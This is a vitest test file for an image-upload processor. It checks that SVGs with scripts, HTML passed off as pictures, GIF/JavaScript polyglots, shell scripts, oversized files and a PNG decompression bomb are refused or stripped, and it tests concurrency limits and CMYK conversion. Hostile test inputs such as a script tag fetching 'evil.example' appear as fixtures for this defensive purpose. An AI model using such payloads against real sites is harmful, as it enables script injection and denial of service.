import { setTimeout as pause } from 'node:timers/promises'
import sharp from 'sharp'
import { expect, test, vi } from 'vitest'
import { pictureMaker } from '#pictures/picture-apart.ts'
import { noise, phonePhoto, pngBomb, smallPng } from '#test/support/picture-files.ts'

// A process for each picture, behind everything else that a busy machine does.
vi.setConfig({ testTimeout: 120_000 })

const make = pictureMaker()
const text = (content: string) => async () => Buffer.from(content)
const SCRIPT = '<script>fetch("//evil.example")</script>'

test.each<[string, () => Promise<Buffer>, string]>([
  ['an SVG with a script', text(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'is SVG, which may hold'],
  ['an SVG behind a declaration', text('\ufeff\n<?xml version="1.0"?>\n<!-- x -->\n<svg/>'), 'is SVG, which may hold'],
  ['HTML that is called a picture', text(`<!doctype html>${SCRIPT}`), 'is HTML or XML'],
  ['a GIF that is a script as well', text('GIF89a=1;alert(1)//'), 'is GIF'],
  ['HEIC', text('\0\0\0\x20ftypheic\0\0\0\0'), 'is HEIC or AVIF'],
  ['a script', text('#!/bin/sh\nreboot\n'), 'is no PNG, JPEG or WebP'],
  ['an empty file', text(''), 'is empty'],
  ['50 MB', async () => Buffer.alloc(50_000_000, 0xff), 'has more than 16 MB'],
  ['900 million pixels in 100 KB', async () => pngBomb(), 'has more than 52 million pixels'],
  ['a JPEG that breaks off', async () => (await phonePhoto(800, 600)).subarray(0, 20_000), 'is damaged or broken off'],
  ['nothing but the beginning of a PNG', text('\x89PNG\r\n\x1a\n'), 'is no PNG'],
  [
    'noise behind a JPEG’s first bytes',
    async () => Buffer.alloc(9_999, '\xff\xd8\xff\xe0JFIF', 'latin1'),
    'is damaged',
  ],
])('%s is refused in plain words', async (_, file, why) => {
  expect(await make(await file(), 'door')).toEqual({ kind: 'refused', why: expect.stringContaining(why) })
})

test('a picture that waits behind a hostile file is made', async () => {
  const png = await smallPng()
  const [bomb, next] = await Promise.all([make(pngBomb(), 'door'), make(png, 'logo')])
  expect([bomb.kind, next.kind]).toEqual(['refused', 'made'])
})

test('a file that is picture and script at once keeps nothing but the picture', async () => {
  const jpeg = await phonePhoto(64, 48)
  const made = await make(Buffer.concat([jpeg, Buffer.from(SCRIPT)]), 'door')
  if (made.kind !== 'made') return expect.fail(JSON.stringify(made))
  expect(Buffer.from(made.picture.webp).includes('script')).toBe(false)
})

test('the thread that guards doors has hardly any work with a picture, however large it is', async () => {
  const large = await noise(6_000, 4_000).jpeg({ quality: 60 }).toBuffer()
  const before = process.threadCpuUsage()
  const made = await make(large, 'door')
  const { user, system } = process.threadCpuUsage(before)
  expect(made.kind).toBe('made')
  // Decoding and encoding take half a second of a core; starting a process and handing bytes over remains.
  expect((user + system) / 1_000).toBeLessThan(100)
})

test('one waits while another is made, and no more', async () => {
  const png = await smallPng()
  const all = await Promise.all(Array.from({ length: 4 }, () => make(png, 'logo')))
  expect(all.map(({ kind }) => kind).sort()).toEqual(['busy', 'busy', 'made', 'made'])
  await pause(0)
  expect((await make(png, 'logo')).kind).toBe('made')
})

test('a CMYK JPEG becomes a picture in the colours of a screen', async () => {
  const red = sharp({ create: { width: 40, height: 40, channels: 3, background: '#d01010' } })
  const cmyk = await red.toColourspace('cmyk').jpeg({ quality: 100 }).toBuffer()
  expect((await sharp(cmyk).metadata()).space).toBe('cmyk')
  const made = await make(cmyk, 'door')
  if (made.kind !== 'made') return expect.fail(JSON.stringify(made))
  const { dominant } = await sharp(made.picture.webp).stats()
  expect(dominant.r).toBeGreaterThan(150)
  expect(dominant.g).toBeLessThan(80)
})
